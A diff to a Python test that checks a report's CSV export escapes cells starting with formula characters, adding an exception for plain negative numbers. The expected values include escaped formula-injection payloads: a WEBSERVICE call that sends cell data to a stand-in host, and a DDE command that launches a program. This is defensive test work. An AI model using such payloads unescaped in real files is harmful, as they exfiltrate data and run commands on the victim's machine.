@@ -30,6 +30,7 @@ from test_report import _CHARTS_JS, _WAIT_JS, _offline_context, _require_chromiu
 
 ROOT = Path(__file__).resolve().parent.parent
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+PLAIN_NUMBER = re.compile(r"-\d+(?:\.\d+)?")   # a negative amount as the export writes it
 TERMINAL_CONTROLS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")   # \t and \n are a terminal's own
 
 pytestmark = pytest.mark.slow
@@ -195,7 +196,9 @@ def test_csv_cells_never_start_a_formula_and_hold_no_nul(run):
     for path in files:
         assert b"\x00" not in path.read_bytes(), path.name
         cells += [(path.name, c) for c in _csv_cells(path)]
-    starting = [x for x in cells if x[1].startswith(FORMULA_START)]
+    # a negative amount (a signed difference such as budget_difference or item_yoy.change) is a number to a
+    # spreadsheet, not a formula: only text starting with a formula character must carry the leading '
+    starting = [x for x in cells if x[1].startswith(FORMULA_START) and not PLAIN_NUMBER.fullmatch(x[1])]
     assert not starting, starting[:5]
     values = {c for _, c in cells}
     assert {"'=WEBSERVICE(\"http://evil.example/?\"&A1)", "'+1+cmd|'/Ccalc'!A0", "'@SUM(1+1)", "'-2+3"} <= values
